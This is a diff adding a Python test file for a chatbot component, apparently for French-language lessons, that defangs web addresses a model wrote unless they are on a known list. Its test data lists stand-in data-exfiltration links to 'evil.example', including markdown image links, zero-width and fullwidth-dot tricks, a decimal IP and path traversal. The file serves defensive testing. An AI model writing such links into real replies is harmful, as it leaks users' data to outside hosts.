@@ -1,0 +1,115 @@
+"""Which addresses of a text stay links, and what becomes of the others."""
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from bot.channels.compose import compose
+from bot.services.approval.unlinking import Unlinking, with_hosts
+from bot.services.approval.vouched import links_in, spelt_in
+from bot.types import Channel, Language
+
+LESSON = "https://fr.wikipedia.org/wiki/Fraction"
+KNOWN = with_hosts({LESSON, "http://cours.ci/a?b=1"})
+
+
+def dead(text: str, *, code_is_dead: bool = False) -> str:
+    return Unlinking(KNOWN, code_is_dead=code_is_dead)(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"Voir {LESSON}.", f"({LESSON})", f"Source:{LESSON}", f"*{LESSON}*", f"« {LESSON} »", "https://fr.wikipedia.org",
+        "fr.wikipedia.org, par exemple", "fr.wikipedia.org/wiki/Fraction", "http://cours.ci/a?b=1",
+        "le fichier cours.pdf", "moi@exemple.org", "3.14 et 1.2.3", "Fin. Suite", "etc.) et/ou", "1. Lomé\n2. Accra",
+    ],
+)  # fmt: skip
+def test_what_others_wrote_and_what_is_no_address_stays(text: str) -> None:
+    assert dead(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("https://evil.example/log?d=secret", "evil[.]example/log?d=secret"),
+        ("(https://evil.example/log?d=secret).", "(evil[.]example/log?d=secret)."),
+        (f"{LESSON}?d=secret", "fr[.]wikipedia[.]org/wiki/Fraction?d=secret"),
+        (f"{LESSON}/../secret", "fr[.]wikipedia[.]org/wiki/Fraction/[.][.]/secret"),
+        ("HTTPS://EVIL.EXAMPLE/X", "EVIL[.]EXAMPLE/X"),
+        ("hhttps://ttps://evil.example/x", "evil[.]example/x"),
+        ("http:/evil.example", "evil[.]example"),
+        ("ftp://evil.example/x", "evil[.]example/x"),
+        ("https://evil。example/x", "evil[.]example/x"),
+        ("http://evil/secret", "evil/secret"),
+        ("http://2130706433/secret", "2130706433/secret"),
+        ("127.0.0.1:80/secret", "127[.]0[.]0[.]1:80/secret"),
+        ("evil.example?d=secret", "evil[.]example?d=secret"),
+        ("www.evil.example/x", "www[.]evil[.]example/x"),
+        ("secret.evil.example", "secret. evil. example"),
+        (f"{LESSON},https://evil.example/secret", "fr[.]wikipedia[.]org/wiki/Fraction,https://evil[.]example/secret"),
+        (f"evil.example/{LESSON}", "evil[.]example/fr[.]wikipedia[.]org/wiki/Fraction"),
+        ("fini.Ensuite", "fini. Ensuite"),
+    ],
+)  # fmt: skip
+def test_what_the_model_alone_wrote_opens_nothing(text: str, shown: str) -> None:
+    assert dead(text) == shown.replace("https://evil[.]example", "evil[.]example")
+
+
+@pytest.mark.parametrize("spelling", ["https://fr.wikipedia.org/wiki/%46raction", f"{LESSON}#secret",
+                                      "HTTPS://FR.wikipedia.org/wiki/Fraction"])  # fmt: skip
+def test_a_known_address_has_one_spelling(spelling: str) -> None:
+    """How it is spelt, and what stands behind #, could else say something to whoever serves it."""
+    assert dead(spelling) == LESSON
+
+
+def test_code_stays_code_where_nothing_in_it_is_a_link() -> None:
+    code = "```\nos.path.join(a)\n```\nou `np.array`"
+    assert dead(code, code_is_dead=True) == code
+    assert dead(code) != code
+    assert dead("`https://evil.example/x`", code_is_dead=True) == "`evil[.]example/x`"
+
+
+def test_it_knows_what_to_tell() -> None:
+    for text, told in ((LESSON, False), ("fini.Ensuite", False), ("https://evil.example/x", True)):
+        unlinking = Unlinking(KNOWN)
+        unlinking(text)
+        assert unlinking.changed is told
+
+
+@pytest.mark.parametrize("channel", Channel)
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "[ici](https://evil.example/x?d=s)", "![x](https://evil.example/x?d=s)", r"https://evil\.example/x?d=s",
+        "evil&#46;example/x?d=s", "https://ev**il**.example/x?d=s", "<https://evil.example/x?d=s>",
+        "evil．example/x?d=s", "e\u200bvil.example/x?d=s", "[a]: https://evil.example/x?d=s\n\n[a]",
+        "| a |\n|---|\n| https://evil.example/x?d=s |", "`https://evil.example/x?d=s`",
+    ],
+)  # fmt: skip
+def test_no_way_of_writing_it_makes_a_link(markdown: str, channel: Channel) -> None:
+    (part,) = compose(markdown, channel, Language.FR, Unlinking(KNOWN, code_is_dead=True)).parts
+    assert links_in(part) == ()
+    assert "://" not in part
+
+
+@given(st.text(st.sampled_from("ab./:?#@[]()*`~_ \nhttps%-。"), max_size=60))
+@example("https://https://a.bb")
+@example("h[.]https://aa.bb")
+def test_nothing_that_remains_is_a_link(text: str) -> None:
+    once = dead(text)
+    assert dead(once) == once
+    assert not [link for link in links_in(once) if "://" in once and link.recipient not in once.replace("[.]", ".")]
+    assert "http://" not in once.lower()
+    assert "https://" not in once.lower()
+
+
+def test_a_text_that_is_exactly_as_long_as_a_part_still_fits() -> None:
+    text = "x.yy " * 320
+    for part in compose(text, Channel.WHATSAPP, Language.FR, Unlinking(())).parts:
+        assert len(part) <= 1_600
+
+
+def test_the_links_of_a_document_are_those_that_are_known() -> None:
+    text = f"[a]({LESSON}) [b]({LESSON}?d=s) {LESSON}, https://evil.example/x https://fr.wikipedia.org"
+    assert spelt_in(text, KNOWN) == {LESSON, "https://fr.wikipedia.org"}
